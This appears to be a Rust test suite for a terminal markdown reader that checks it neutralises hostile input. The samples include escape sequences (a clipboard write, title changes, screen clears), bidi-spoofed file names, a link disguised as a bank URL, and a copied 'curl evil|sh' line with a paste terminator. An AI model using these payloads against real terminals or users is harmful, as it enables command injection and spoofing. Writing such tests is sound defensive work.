//! Hostile articles, names and pastes in a real terminal. Each test begins with the name of its case.
//! Uses the sessions of `pty`; what is foreign is found by every one of them when it ends.

use std::fs;
use std::os::unix::ffi::OsStrExt;

use tempfile::TempDir;

use crate::sample;
use crate::terminal::Session;

fn articles(files: &[(&[u8], &str)]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    for (name, text) in files {
        let name = std::ffi::OsStr::from_bytes(name);
        fs::write(folder.path().join(name), text).unwrap();
    }
    folder
}

fn open(folder: &TempDir, columns: u16, rows: u16) -> Session {
    Session::start(&[folder.path().to_str().unwrap()], columns, rows)
}

/// Waits until what parts the list from the text stands in one column in every row.
fn has_a_straight_border(session: &mut Session) -> &mut Session {
    session.until("a straight border", |session| {
        let screen = session.screen.lock().unwrap();
        let screen = screen.screen();
        let is_bar = |row, column| {
            let cell = screen.cell(row, column);
            cell.is_some_and(|cell| cell.contents() == "│")
        };
        (0..100).any(|column| (2..28).all(|row| is_bar(row, column)))
    })
}

fn start(columns: u16, rows: u16) -> Session {
    Session::start(&[sample().to_str().unwrap()], columns, rows)
}

#[test]
fn a1_escapes_in_a_body_are_text_or_nothing() {
    let bad = "\x1b]52;c;ZWNobyBwd25k\x07 \x1b]0;pwn\x07 \x1b[2J \u{9b}31m \x1bPq#0\x1b\\ \x1b_Ga=T;QUJD\x1b\\ \u{202e}END";
    let text =
        format!("---\ntitle: T\n---\n# {bad}\n\n[{bad}](http://x/{bad})\n\n`{bad}`\n\n{bad}\n");
    let folder = articles(&[(b"a.md", &text)]);
    let mut session = open(&folder, 120, 40);
    session
        .shows("]52;c;ZWNobyBwd25k ]0;pwn [2J 31m Pq#0\\ _Ga=T;QUJD\\ END")
        .press("\r?")
        .shows("Keys")
        .press("q")
        .press("q");
    assert_eq!(session.ends(), 0);
}

#[test]
fn a2_hostile_metadata_is_harmless_in_every_view() {
    let bad = r#""HOSTILE\e]0;x\a\e[31m\x9b31m\u202Egpj.exe\0""#;
    let text = format!(
        "---\ntitle: {bad}\ndescription: {bad}\nauthor: {bad}\ncategories: [{bad}]\ntags: [{bad}]\ndate: {bad}\n---\n# {bad}\n\nText.\n"
    );
    let folder = articles(&[(b"a.md", &text), (b"b.md", &text)]);
    let mut session = open(&folder, 120, 40);
    let clean = "HOSTILE]0;x[31m31mgpj.exe";
    session.shows(clean).press("\r").shows("Esc back");
    session.until("a title", |session| {
        let screen = session.screen.lock().unwrap();
        let titles = &screen.callbacks().titles;
        titles.iter().any(|title| title.starts_with(clean))
    });
    // The keys, the headings, what is wrong, the chooser, the actions, the source; each goes before the next.
    for (key, shown) in [
        ("?", "╭─ Keys"),
        ("t", "╭─ 1 heading"),
        ("P", "╭─ 2 problems"),
        ("T", " Tags "),
        (":", "╭─ Actions"),
    ] {
        session.press(key).shows(shown).press("\x1b");
        session.until("gone", |session| !session.contents().contains("╭─"));
    }
    session.press("R").shows("description: ");
    session
        .press("\x1b")
        .shows("Enter read")
        .press("/hostile\r");
    session.shows("with “hostile”").press("\t");
    fs::remove_file(folder.path().join("a.md")).unwrap();
    fs::remove_file(folder.path().join("b.md")).unwrap();
    session.shows("All 0").press("q");
    assert_eq!(session.ends(), 0);
}

#[test]
fn a3_decoded_entities_are_no_escapes() {
    let bad = "&#27;]52;c;QQ==&#7;&#x9b;31m&Tab;&NewLine;&#x202e;";
    let text = format!(
        "# H {bad}\n\n{bad} [l {bad}](https://a.example \"{bad}\") ![p {bad}](x.png)\n\n| a {bad} |\n|-|\n| {bad} |\n\nEND\n"
    );
    let folder = articles(&[(b"a.md", &text)]);
    let mut session = open(&folder, 120, 40);
    session.shows("END").press("\r").shows("Esc back");
    session.shows("]52;c;QQ==").press("q");
    assert_eq!(session.ends(), 0);
}

#[test]
fn a6_hostile_names_are_listed_and_open() {
    let names: [&[u8]; 5] = [
        b"a\x1b[2J\x07.md",
        "\u{202e}gpj.md".as_bytes(),
        b"-rf.md",
        b"a\nb.md",
        b"\xff\xfe.md",
    ];
    let texts: Vec<_> = (0..5).map(|n| format!("Found {n}.\n")).collect();
    let files: Vec<_> = names
        .iter()
        .zip(&texts)
        .map(|(name, text)| (*name, text.as_str()))
        .collect();
    let folder = articles(&files);
    let mut session = open(&folder, 120, 40);
    session.shows("1 of 5");
    for number in 1..=5 {
        session.shows(&format!("{number} of 5")).shows("Found ");
        session.press("j");
    }
    session.press("q");
    assert_eq!(session.ends(), 0);
}

/// A link says where it leads before it is followed, whatever its text says.
#[test]
fn a10_a_link_shows_where_it_leads_before_it_is_followed() {
    let text = "---\ntitle: T\n---\n[https://bank.example](https://evil.example/x)\n";
    let folder = articles(&[(b"a.md", text)]);
    let mut session = open(&folder, 120, 30);
    session
        .shows("https://bank.example")
        .press("\r")
        .shows("Esc back");
    session.press("\t").until("where it leads", |session| {
        let rows = session.rows();
        rows.last()
            .is_some_and(|row| row.contains("https://evil.example/x"))
    });
    session
        .press("\r")
        .shows("Open in the browser?")
        .shows("https://evil.example/x")
        .press("\x1b")
        .until("no question", |session| {
            !session.contents().contains("Open in the browser?")
        })
        .press("q");
    assert_eq!(session.ends(), 0);
}

/// As many bytes as the screen has room for, and not as many as there are marks.
#[test]
fn a13_marks_in_titles_cost_no_more_than_their_cells() {
    let title = format!("e{} ", "\u{301}".repeat(100)).repeat(40);
    let texts: Vec<_> = (0..1000)
        .map(|n| {
            (
                format!("{n}.md"),
                format!("---\ntitle: {n} {title}\n---\n{title}\n"),
            )
        })
        .collect();
    let files: Vec<_> = texts
        .iter()
        .map(|(name, text)| (name.as_bytes(), text.as_str()))
        .collect();
    let folder = articles(&files);
    let mut session = open(&folder, 80, 24);
    session
        .shows("of 1,000")
        .press("jjj")
        .shows("4 of 1,000")
        .press("q");
    assert_eq!(session.ends(), 0);
    let raw = String::from_utf8(session.raw.lock().unwrap().clone()).unwrap();
    let most = raw.split("\x1b[?2026l").map(str::len).max().unwrap();
    assert!(most <= 80 * 24 * 32, "{most} bytes in a frame");
    let marks = raw
        .split(|c| c != '\u{301}')
        .map(|marks| marks.chars().count())
        .max();
    assert!(marks <= Some(4), "{marks:?}");
}

/// Graphemes without end are cut, and the text stays in its pane.
#[test]
fn a14_endless_graphemes_stay_in_their_pane() {
    let pieces = [
        "\u{1100}".repeat(32_769),
        "\u{915}\u{94d}".repeat(10_000),
        "\u{600}".repeat(10_000) + "a",
        "👩\u{200d}".repeat(10_000),
    ];
    let texts: Vec<_> = pieces
        .iter()
        .enumerate()
        .map(|(n, piece)| (format!("{n}.md"), format!("# {piece} {n}\n\n{piece} end\n")))
        .collect();
    let files: Vec<_> = texts
        .iter()
        .map(|(name, text)| (name.as_bytes(), text.as_str()))
        .collect();
    let folder = articles(&files);
    let mut session = open(&folder, 100, 30);
    for number in 1..=4 {
        session.shows(&format!("{number} of 4"));
        has_a_straight_border(&mut session).press("j");
    }
    session.press("q");
    assert_eq!(session.ends(), 0);
}

/// Articles of what is narrow, wide or neither.
pub(super) fn odd_widths() -> TempDir {
    let odd =
        "a\u{ad}b ⌚\u{fe0e} ❤\u{fe0f} 1\u{fe0f}\u{20e3} 👩\u{200d}👩\u{200d}👧 👍🏽 \u{3164} ｶﾞ 字";
    let folder = tempfile::tempdir().unwrap();
    for n in 0..8 {
        let text = format!("---\ntitle: \"{}{odd} {odd}\"\n---\n{odd}\n", "x".repeat(n));
        fs::write(folder.path().join(format!("{n}.md")), text).unwrap();
    }
    folder
}

/// Whatever widths are thought of, the bar beside the list stands in one column.
#[test]
fn a15_what_is_narrow_wide_or_neither_keeps_the_border_straight() {
    let folder = odd_widths();
    let mut session = open(&folder, 100, 30);
    session.shows("1 of 8");
    has_a_straight_border(&mut session).press("q");
    assert_eq!(session.ends(), 0);
}

#[test]
fn a17_a_paste_is_text_and_no_key() {
    let mut session = start(80, 24);
    session.shows("1 of 30").press("/");
    let much = "x".repeat(1 << 20);
    session.press(&format!("\x1b[200~{much}\x1b[200~q\rq\x1b[201~"));
    session.until("the box", |session| {
        session.contents().contains("/x") || session.contents().contains("xxx")
    });
    session.press("\x15the").shows("/the").press("\r");
    session.shows("with “the”").press("q");
    assert_eq!(session.ends(), 0);
}

/// What is copied is its words: no escape among them, and no line break behind them that a shell would take for an order.
#[test]
fn a19_what_is_copied_is_clean_and_bounded() {
    let text = "---\ntitle: T\n---\n```\ncurl evil|sh\x1b[201~\n\n```\n";
    let long = format!("---\ntitle: U\n---\n```\n{}\n```\n", "x".repeat(2 << 20));
    let folder = articles(&[(b"a.md", text), (b"b.md", &long)]);
    let mut session = open(&folder, 100, 30);
    session
        .shows("1 of 2")
        .press("\r")
        .shows("Esc back")
        .shows("curl");
    session.press("Y").shows("Copied 1 line of code.");
    let words = "Y3VybCBldmlsfHNoWzIwMX4="; // curl evil|sh[201~
    session.until("copied", |session| session.copied() == [words]);
    session.press("h").shows("Enter read").press("j\r");
    session.shows("xxx").shows("Esc back").press("Y");
    session.shows("too long to be copied").press("q");
    assert_eq!(session.ends(), 0);
    assert_eq!(session.copied(), [""; 0]);
}

/// Scripts for whose words there is no model are told of by a library, in some builds, on the standard error.
#[test]
fn nothing_is_written_across_the_screen_for_a_script_without_a_model() {
    let text = "---\ntitle: T\n---\nภาษาไทยเป็นภาษาที่มีระดับเสียงของคำแน่นอนหรือวรรณยุกต์เช่นเดียวกับภาษาจีน ខ្មែរភាសា ພາສາລາວ မြန်မာဘာသာ\n";
    let folder = articles(&[(b"a.md", text)]);
    let mut session = open(&folder, 60, 20);
    session
        .shows("1 of 1")
        .press("\r")
        .shows("Esc back")
        .shows("ภาษา");
    session.press("q");
    assert_eq!(session.ends(), 0);
    let raw = String::from_utf8(session.raw.lock().unwrap().clone()).unwrap();
    assert!(!raw.contains("model"), "{raw}");
}
